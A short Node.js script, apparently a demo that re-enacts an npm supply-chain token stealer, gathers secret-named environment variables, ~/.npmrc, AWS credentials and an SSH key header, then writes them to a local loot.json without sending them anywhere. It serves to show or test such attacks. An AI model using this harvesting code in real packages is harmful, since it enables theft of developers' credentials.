// Harmless re-enactment of what real payloads did: collect tokens from env and home.
// It sends nothing anywhere: it writes what it found into its own package directory.
const fs = require('fs')
const os = require('os')
const path = require('path')

const read = (file) => {
  try { return fs.readFileSync(file, 'utf8') } catch (error) { return `(${error.code})` }
}
const loot = {
  homedir: os.homedir(),
  env: Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN|KEY|SECRET|AUTH/i.test(k))),
  npmrc: read(path.join(os.homedir(), '.npmrc')),
  awsCredentials: read(path.join(os.homedir(), '.aws', 'credentials')),
  sshKey: read(path.join(os.homedir(), '.ssh', 'id_ed25519')).split('\n')[0],
}
fs.writeFileSync(path.join(__dirname, 'loot.json'), JSON.stringify(loot, null, 2))
console.log('token-stealer: collected', Object.keys(loot.env).length, 'env tokens and ~/.npmrc')
